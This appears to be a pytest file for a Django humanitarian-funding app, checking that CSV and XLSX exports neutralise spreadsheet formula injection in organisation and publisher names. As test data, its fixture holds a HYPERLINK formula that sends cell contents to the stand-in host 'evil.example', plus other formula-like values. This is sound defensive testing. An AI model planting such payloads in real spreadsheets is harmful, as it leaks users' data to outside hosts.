"""Issue 15, item 4: the funding exports write stored text that starts like a formula ("=", "+", "-", "@", a tab
or carriage return first) as data — a quote before it in the CSV, a string cell in the XLSX — as every other
export does (``minga.common.text``). Names come from people and from imported files (IATI, FTS, HXL)."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from minga.reference.models import Organisation, PopulationFigure, Source

pytestmark = pytest.mark.django_db

GAC = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
USAID = "-2+3 USAID"
PUBLISHER = "@SUM(A1:A9)"


@pytest.fixture
def formulas(ledger):
    Organisation.objects.filter(name="Global Affairs Canada").update(name=GAC)
    Organisation.objects.filter(name="U.S. Agency for International Development").update(name=USAID)
    Source.objects.filter(pk__in=PopulationFigure.objects.values("source")).update(url="", publisher=PUBLISHER)
    return ledger


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_dashboards_csv_puts_a_quote_before_names_that_start_like_formulas(client, formulas):
    donors = rows(client.get("/funding/donors.csv?country=PER", headers={"accept-language": "en"}).content)
    assert [row[:3] for row in donors[2:]] == [["XM-DAC-301-2", "'" + GAC, "400000.00"],
                                               ["US-GOV-1", "'" + USAID, "0.00"]]
    countries = rows(client.get("/funding/countries.csv?country_sort=label").content)
    header = countries[0]
    sources = {row[1]: row[header.index("population_source")] for row in countries[2:]}
    assert sources["Colombia"] == "'" + PUBLISHER
    assert all(not value.startswith(("=", "+", "-", "@")) for row in donors + countries for value in row)


def test_minga_report_funding_csv_puts_a_quote_before_them_too(formulas):
    out = io.StringIO()
    call_command("report", "funding", "--by", "donor", "--format", "csv", stdout=out)
    labels = {row[1] for row in rows(out.getvalue().encode())[1:]}
    assert {"'" + GAC, "'" + USAID} <= labels


def test_the_conference_xlsx_writes_them_as_string_cells(formulas, tmp_path):
    output = tmp_path / "report.xlsx"
    call_command("report", "conference", "brussels-2023", "--format", "xlsx", "--language", "en",
                 "--output", str(output), stdout=io.StringIO())
    donors = [row[0] for row in load_workbook(output)["Donors"].iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in donors] == [
        (GAC, "s", True), (USAID, "s", True)]
